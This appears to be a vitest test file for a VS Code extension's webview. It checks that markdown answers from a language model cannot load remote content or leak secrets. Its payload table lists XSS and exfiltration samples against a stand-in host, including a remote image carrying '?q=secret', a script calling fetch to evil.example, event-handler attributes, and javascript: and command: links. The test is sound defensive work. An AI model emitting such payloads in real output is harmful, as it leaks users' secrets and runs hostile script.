// Threat 14: an answer with a picture or a link carries secrets out. The sanitiser in a browser is tested in `test/e2e`.
import { describe, expect, it } from 'vitest';
import { panelHtml } from '../../../src/host/panel/html';
import { linkTarget } from '../../../webview/markdown/links';
import { lexMarkdown, renderToken } from '../../../webview/markdown/renderMarkdown';

const render = (source: string): string => lexMarkdown(source).map(renderToken).join('');

describe('threat 14: what an answer of a model may load or open', () => {
  it('nothing is loaded from elsewhere, whatever the page holds', () => {
    const html = panelHtml({
      nonce: 'n',
      styleNonce: 's',
      cspSource: 'https://own.example',
      scriptUri: 'https://own.example/panel.js',
      styleUri: 'https://own.example/panel.css',
      language: 'en',
    });
    const policy = new Map(
      (/content="([^"]*default-src[^"]*)"/.exec(html)?.[1] ?? '').split('; ').map((directive) => {
        const [name = '', ...sources] = directive.split(' ');
        return [name, sources.join(' ')];
      }),
    );
    expect(Object.fromEntries(policy)).toEqual({
      'default-src': "'none'",
      'script-src': "'nonce-n'",
      'style-src': "https://own.example 'nonce-s'",
      'font-src': 'https://own.example',
      'img-src': 'https://own.example data:',
      'base-uri': "'none'",
      'form-action': "'none'",
    });
  });

  it.each([
    ['a remote picture', '![x](https://evil.example/?q=secret)'],
    ['a picture by reference', '![x][1]\n\n[1]: https://evil.example/a.png'],
    ['raw HTML', '<img src=https://evil.example/a.png onerror=alert(1)>'],
    ['a raw block', '<script>fetch("https://evil.example")</script>'],
    ['inline raw HTML', 'a <b onmouseover="alert(1)">b</b> <iframe src="x"></iframe>'],
    ['a style', '<style>@import "https://evil.example/a.css";</style>'],
    ['a form', '<form action="https://evil.example"><input></form>'],
    ['a script address', '[click](javascript:alert(1))'],
    ['a command address', '[click](command:workbench.action.files.save)'],
    ['markup in a title', '[a](https://example.com "x\\" onmouseover=\\"alert(1)")'],
    ['markup in an address', '[a](https://example.com/"onmouseover="alert(1))'],
    ['markup in the name of a language', '```"><img src=x>\ncode\n```'],
    ['an autolink', 'https://example.com/<img>'],
  ])('%s makes no element beside text and links without an address', (_name, source) => {
    const html = render(source);
    const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/g)];
    for (const [, tag, attributes] of tags) {
      expect(['p', 'a', 'span', 'pre', 'code', 'br']).toContain(tag);
      const names = [...(attributes ?? '').matchAll(/([a-z-]+)="[^"]*"/g)].map((match) => match[1]);
      expect(['class', 'role', 'tabindex', 'title', 'data-link']).toEqual(expect.arrayContaining(names));
      expect((attributes ?? '').replace(/[a-z-]+="[^"]*"/g, '').trim()).toBe('');
    }
    expect(html).not.toMatch(/<(?:img|script|style|iframe|form|input|b)\b/);
    expect(html).not.toMatch(/<[^>]*\s(?:href|src)=/);
  });

  it('a link opens by a click only, with the host that it leads to beside it', () => {
    expect(render('[github.com](https://evil.example/?q=secret)')).toBe(
      '<p><a class="link" role="link" tabindex="0" data-link="https://evil.example/?q=secret" title="https://evil.example/?q=secret">github.com</a> <span class="link-host">(evil.example)</span></p>\n',
    );
    expect(linkTarget('https://github.com@evil.example/x')).toMatchObject({ host: 'evil.example' });
    expect(linkTarget('command:workbench.action.files.save')).toBeUndefined();
    expect(linkTarget('vscode://publisher.extension/x')).toBeUndefined();
  });
});
